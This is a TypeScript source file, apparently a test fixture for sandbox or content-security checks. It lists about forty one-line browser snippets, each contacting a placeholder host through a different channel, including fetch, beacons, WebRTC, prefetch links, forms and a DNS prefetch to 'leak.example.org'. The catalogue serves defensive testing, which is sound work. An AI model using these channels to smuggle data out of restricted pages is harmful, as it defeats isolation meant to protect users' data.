// Every way known to us in which a page can reach another computer; HOST is replaced. Each is one statement of the page.

/** Names and statements. */
export const waysOut: Readonly<Record<string, string>> = {
  fetch: `fetch('http://HOST/fetch').catch(() => 0)`,
  image: `new Image().src = 'http://HOST/image'`,
  background: `document.body.style.backgroundImage = 'url(http://HOST/background)'`,
  font: `new FontFace('x', 'url(http://HOST/font)').load().catch(() => 0)`,
  sound: `new Audio('http://HOST/sound').play().catch(() => 0)`,
  request: `{ const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/request'); try { x.send() } catch {} }`,
  socket: `try { new WebSocket('ws://HOST/socket') } catch {}`,
  events: `try { new EventSource('http://HOST/events') } catch {}`,
  transport: `try { new WebTransport('https://HOST/transport').ready.catch(() => 0) } catch {}`,
  beacon: `navigator.sendBeacon('http://HOST/beacon', 'x')`,
  ping: `{ const a = document.createElement('a'); a.href = '#/'; a.ping = 'http://HOST/ping'; document.body.append(a); a.click(); a.remove() }`,
  script: `{ const s = document.createElement('script'); s.src = 'http://HOST/script'; document.head.append(s) }`,
  module: `import('http://HOST/module').catch(() => 0)`,
  worker: `try { new Worker('http://HOST/worker') } catch {}`,
  serviceWorker: `navigator.serviceWorker?.register('http://HOST/service').catch(() => 0)`,
  frame: `{ const f = document.createElement('iframe'); f.src = 'http://HOST/frame'; document.body.append(f) }`,
  frameInside: `{ const f = document.createElement('iframe'); f.srcdoc = '<img src="http://HOST/inside"><script src="http://HOST/inside">' + '</' + 'script>'; document.body.append(f) }`,
  object: `{ const o = document.createElement('object'); o.data = 'http://HOST/object'; document.body.append(o) }`,
  webview: `{ const w = document.createElement('webview'); w.src = 'http://HOST/webview'; document.body.append(w) }`,
  form: `{ const f = document.createElement('form'); f.action = 'http://HOST/form'; f.method = 'post'; document.body.append(f); f.submit() }`,
  formElsewhere: `{ const f = document.createElement('form'); f.action = 'http://HOST/form'; f.target = '_blank'; document.body.append(f); f.submit() }`,
  window: `window.open('http://HOST/window')`,
  linkElsewhere: `{ const a = document.createElement('a'); a.href = 'http://HOST/link'; a.target = '_blank'; document.body.append(a); a.click() }`,
  download: `{ const a = document.createElement('a'); a.href = 'http://HOST/download'; a.download = 'x'; document.body.append(a); a.click() }`,
  ...Object.fromEntries(
    ['preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'manifest', 'icon'].map((rel) => [
      rel,
      `{ const l = document.createElement('link'); l.rel = '${rel}'; l.href = 'http://HOST/${rel}'; document.head.append(l) }`,
    ]),
  ),
  name: `{ const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://leak.example.org/'; document.head.append(l) }`,
  speculation: `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["http://HOST/next"]}]}'; document.head.append(s) }`,
  refresh: `{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/refresh'; document.head.append(m) }`,
  ...Object.fromEntries(
    ['stun:HOST', 'turn:HOST?transport=udp', 'turn:HOST?transport=tcp', 'turns:HOST'].map((urls) => [
      urls,
      `{ const p = new RTCPeerConnection({ iceServers: [{ urls: '${urls}'${urls.startsWith('turn') ? ", username: 'a', credential: 'b'" : ''} }] }); p.createDataChannel('x'); void p.createOffer().then((o) => p.setLocalDescription(o)) }`,
    ]),
  ),
  navigation: `location.href = 'http://HOST/navigation'`,
};
